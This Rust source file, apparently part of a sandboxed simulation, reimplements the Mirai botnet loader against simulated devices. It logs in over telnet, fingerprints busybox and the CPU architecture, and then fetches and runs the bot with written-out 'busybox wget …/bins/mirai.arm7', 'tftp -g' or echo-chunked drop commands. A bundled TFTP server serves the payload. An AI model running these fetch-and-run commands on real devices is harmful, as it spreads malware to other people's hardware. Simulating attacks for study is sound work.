//! Mirai's loader: logs in where a scanner was let in, looks around in busybox's words, learns the architecture from
//! the ELF header of /bin/echo, brings the program by wget, TFTP or echo, and runs it.

use crate::{
    city::{
        cell::Inside,
        world::{Infection, World, lock},
    },
    clock,
    error::{Result, Tried},
    mirai::{
        program::{self, Orders},
        report::Report,
    },
    things::telnet::Client,
    wire::word,
};
use std::{
    io::{self, ErrorKind},
    net::{SocketAddrV4, UdpSocket},
    sync::{Arc, mpsc::Receiver},
    time::Duration,
};

/// Mirai's question to busybox, whose answer marks the end of what a command printed.
const QUERY: &str = "/bin/busybox ECCHI";
const ANSWER: &str = "ECCHI: applet not found";

/// Serves reports one after the other; at most as many devices as the plan allows become bots.
pub(crate) fn run(world: &Arc<World>, reports: &Receiver<Report>) -> Result<()> {
    let inside = Inside::prove(&world.token)?;
    for report in reports {
        inside.target(*report.device.ip())?;
        let Some(device) = world.plan.device_at(*report.device.ip()) else { continue };
        let bots = world.infected();
        if bots.len() >= world.plan.most_bots || bots.contains(&device.number) {
            continue;
        }
        world.say(format!("the loader logs in to {} and brings its program", device.name));
        match load(world, &report) {
            Ok(()) => {
                let at = clock::now();
                let login = lock(&world.logins).get(&device.number).copied().unwrap_or(at);
                lock(&world.infections).push(Infection { device: device.number, at, login });
                world.say(format!("{} is taken over: the bot runs", device.name));
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                world.say(format!("{} answers the loader no more", device.name));
            }
            Err(error) => world.say(format!("the loader lost {} ({error})", device.name)),
        }
    }
    Ok(())
}

/// What it serves by HTTP and TFTP.
pub(crate) fn payload(world: &World, size: usize) -> Vec<u8> {
    let controller = SocketAddrV4::new(world.plan.outside.controller, world.plan.ports.controller);
    program::build(&Orders { controller }, size)
}

fn load(world: &World, report: &Report) -> io::Result<()> {
    let mut telnet = Client::connect(report.device)?;
    if !telnet.log_in(&report.user, &report.password)? {
        return Err(ErrorKind::PermissionDenied.into());
    }
    for line in ["enable", "shell", "sh"] {
        clock::pause(40);
        telnet.say(line)?;
        telnet.expect(&["# "])?;
    }
    ask(&mut telnet, QUERY)?;
    ask(&mut telnet, &format!("/bin/busybox ps; {QUERY}"))?;
    ask(&mut telnet, &format!("/bin/busybox cat /proc/mounts; {QUERY}"))?;
    let probe = "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon";
    ask(&mut telnet, &format!("{probe}; {QUERY}"))?;
    telnet.say("cd /dev/")?;
    telnet.say(&format!(
        "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; {QUERY}"
    ))?;
    telnet.expect(&[ANSWER])?;
    let header = ask(&mut telnet, &format!("/bin/busybox cat /bin/echo; {QUERY}"))?;
    if !header.windows(4).any(|window| window == b"\x7fELF") {
        return Err(io::Error::new(ErrorKind::Unsupported, "no ELF header"));
    }
    let fetchers = ask(&mut telnet, &format!("/bin/busybox wget; /bin/busybox tftp; {QUERY}"))?;
    let fetchers = String::from_utf8_lossy(&fetchers).into_owned();
    let (address, port) = (world.plan.outside.loader, world.plan.ports.loader);
    let file = if !fetchers.contains("wget: applet not found") {
        let url = format!("http://{address}:{port}/bins/mirai.arm7");
        ask(
            &mut telnet,
            &format!("/bin/busybox wget {url} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; {QUERY}"),
        )?;
        "dvrHelper"
    } else if !fetchers.contains("tftp: applet not found") {
        let get = format!("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 {address}");
        ask(&mut telnet, &format!("{get}; /bin/busybox chmod 777 dvrHelper; {QUERY}"))?;
        "dvrHelper"
    } else {
        for (number, chunk) in payload(world, 1_400).chunks(128).enumerate() {
            let escaped: String = chunk.iter().map(|byte| format!("\\x{byte:02x}")).collect();
            let into = if number == 0 { ">" } else { ">>" };
            ask(&mut telnet, &format!("echo -ne '{escaped}' {into} upnp; {QUERY}"))?;
        }
        "upnp"
    };
    telnet.say(&format!("./{file} telnet.arm7; /bin/busybox IHCCE"))?;
    let (which, _) = telnet.until(&["listening tun0", "IHCCE: applet not found"])?;
    if which != 0 {
        return Err(io::Error::new(ErrorKind::NotFound, "the program did not run"));
    }
    // Mirai's loader leaves no file behind; where the device is cut off by now, that is no matter.
    let _ = telnet.say(&format!("rm -rf {file}; > {file}; {QUERY}"));
    Ok(())
}

/// Says a line and gives everything up to busybox's answer.
fn ask(telnet: &mut Client, line: &str) -> io::Result<Vec<u8>> {
    // The way to the loader and back.
    clock::pause(40);
    telnet.say(line)?;
    telnet.until(&[ANSWER]).map(|(_, said)| said)
}

/// The loader's TFTP server (RFC 1350): one transfer at a time is enough here.
pub(crate) fn tftp(file: &[u8]) -> Result<()> {
    let socket = UdpSocket::bind(("0.0.0.0", 69)).tried(|| "open the loader's TFTP port".into())?;
    let mut buffer = [0; 600];
    loop {
        let Ok((length, client)) = socket.recv_from(&mut buffer) else { continue };
        if buffer.get(..length).and_then(|request| word(request, 0)) != Some(1) {
            continue;
        }
        let Ok(transfer) = UdpSocket::bind(("0.0.0.0", 0)) else { continue };
        let _ = transfer.set_read_timeout(Some(Duration::from_secs(1)));
        // The last block is shorter than 512 bytes, empty where the file ends on a boundary.
        let blocks = (0..=file.len() / 512)
            .map(|n| file.get(n * 512..file.len().min(n * 512 + 512)).unwrap_or_default());
        for (number, block) in (1_u16..).zip(blocks) {
            let packet = [&[0, 3], number.to_be_bytes().as_slice(), block].concat();
            let _ = transfer.send_to(&packet, client);
            let acknowledged = transfer.recv(&mut buffer).is_ok_and(|length| {
                let reply = buffer.get(..length).unwrap_or_default();
                word(reply, 0) == Some(4) && word(reply, 2) == Some(number)
            });
            if !acknowledged {
                break;
            }
        }
    }
}
